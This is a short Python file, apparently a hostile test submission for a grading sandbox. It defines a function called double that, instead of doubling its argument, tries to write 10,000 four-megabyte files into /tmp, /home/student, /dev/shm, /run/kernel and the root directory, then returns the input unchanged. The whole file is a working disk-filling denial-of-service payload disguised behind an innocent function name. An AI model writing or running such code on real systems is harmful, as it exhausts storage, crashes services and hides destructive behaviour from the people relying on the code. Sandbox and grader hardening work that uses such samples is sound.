"""Fills every folder that it can write to."""


def double(x):
    for folder in ("/tmp", "/home/student", "/dev/shm", "/run/kernel", "/"):
        try:
            for number in range(10_000):
                with open(f"{folder}/{number}", "wb") as file:
                    file.write(b"x" * 2**22)
        except OSError:
            continue
    return x
